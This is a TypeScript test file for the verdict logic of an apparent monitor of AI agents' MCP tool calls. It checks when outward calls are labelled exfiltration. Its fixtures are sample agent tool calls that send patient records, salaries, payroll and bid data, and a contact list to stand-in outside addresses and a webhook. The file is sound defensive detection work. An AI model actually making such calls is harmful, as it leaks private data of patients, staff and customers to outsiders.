/**
 * Session 18 (tp26): an outward call to a destination whose sent text the classifier flags (its head may name it a data
 * leak or an injection: it reads words, not calls), or whose body carries several e-mail addresses, is exfiltration as
 * well (verdict.ts, flaggedTextSentOut). The findings are built by hand so the verdict's naming is tested on its own;
 * texts are our own.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { AlertCategory } from '@mcpspy/events';
import { combineFindings } from './verdict';
import { toolCall, toolResult, textUnit } from './test-builders';
import type { Finding, TextUnit } from './types';

const flagged = (category: AlertCategory, field: string, score = 0.55): Finding => ({
  category,
  score,
  detector: 'classifier',
  floating: true,
  evidence: [{ text: '…', field, start: 0, end: 10, rule: 'classifier' }],
  summary: 'reads like an injection',
});
const emails = (fields: string[], score = 0.6): Finding => ({
  category: 'data_leak',
  score,
  detector: 'secrets',
  evidence: fields.map((field) => ({ text: 'a…@…', field, start: 0, end: 5, rule: 'email' })),
  summary: 'e-mail addresses',
});
/** The argument units of a call, as the extractor would give them (strings only). */
function unitsOf(args: Record<string, unknown>, prefix = 'params.arguments'): TextUnit[] {
  const out: TextUnit[] = [];
  for (const [k, v] of Object.entries(args)) {
    const field = `${prefix}.${k}`;
    if (typeof v === 'string') out.push(textUnit(v, field, 'argument'));
    else if (Array.isArray(v)) v.forEach((x, i) => typeof x === 'string' && out.push(textUnit(x, `${field}[${i}]`, 'argument')));
    else if (v && typeof v === 'object') out.push(...unitsOf(v as Record<string, unknown>, field));
  }
  return out;
}
function categories(findings: Finding[], args: Record<string, unknown>, tool: string): string[] {
  return combineFindings(findings, toolCall(args, tool), 'tools/call', 0.5, undefined, unitsOf(args)).map((a) => a.category).sort();
}

describe('tp26: an outward call that sends flagged text to a destination is exfiltration', () => {
  test('a flagged body mailed out keeps its data-leak name and is also exfiltration', () => {
    const args = { to: 'ward.notes.home@mailbox.example', subject: 'tonight', body: 'MRN, name, date of birth, diagnosis for every patient on the ward' };
    assert.deepEqual(categories([flagged('data_leak', 'params.arguments.body')], args, 'send_email'), ['data_leak', 'exfiltration']);
  });
  test('a flagged chat post, a calendar invite to an outside attendee and a public gist', () => {
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.text')], { channel: 'C07VENDORBRIDGE', text: 'salaries and sick leave of the team' }, 'slack_post_message').includes('exfiltration'));
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.description')], { attendees: ['notes@partner-advisory.example'], description: 'board deck and payroll totals' }, 'calendar_create_event').includes('exfiltration'));
    assert.ok(categories([flagged('prompt_injection', 'params.arguments.files.a.md')], { public: true, files: { 'a.md': 'confidential bid comparison' } }, 'create_gist').includes('exfiltration'));
  });
  test('a contact list posted to a webhook: several addresses in the body', () => {
    const args = { url: 'https://hooks.relay-crm.example/catch/1', body: '{"contacts":[{"email":"a.m@shop.example"},{"email":"t.o@firm.example"}]}' };
    assert.ok(categories([emails(['params.arguments.body#json.contacts[0].email', 'params.arguments.body#json.contacts[1].email'])], args, 'http_request').includes('exfiltration'));
  });
  test('not: a single address, the recipient itself, a local tool, no destination, a finding under alert strength, a result', () => {
    // One address in the body (a signature) is no contact list.
    assert.ok(!categories([emails(['params.arguments.body'])], { to: 'ops@partner.example', body: 'reach me at k.n@firm.example' }, 'send_email').includes('exfiltration'));
    // The flagged text is the recipient field: nothing is carried.
    assert.ok(!categories([emails(['params.arguments.to[0]', 'params.arguments.to[1]'])], { to: ['a@x.example', 'b@y.example'], body: 'see you at noon' }, 'send_email').includes('exfiltration'));
    // A local tool (write a file, run a query) sends nothing out.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.content')], { path: '/tmp/notes.md', content: 'salaries of the team' }, 'write_file').includes('exfiltration'));
    // An outward tool with nowhere to send to.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.text')], { text: 'salaries of the team' }, 'send_message').includes('exfiltration'));
    // The classifier under its stand-alone weight.
    assert.ok(!categories([flagged('data_leak', 'params.arguments.text', 0.35)], { channel: '#team', text: 'salaries' }, 'slack_post_message').includes('exfiltration'));
    // A tool result is data read, not a call sending it.
    const unit = textUnit('salaries of the team', 'result.content[0].text', 'result');
    assert.ok(!combineFindings([flagged('data_leak', 'result.content[0].text')], toolResult('salaries of the team'), 'tools/call', 0.5, undefined, [unit]).some((a) => a.category === 'exfiltration'));
  });
});
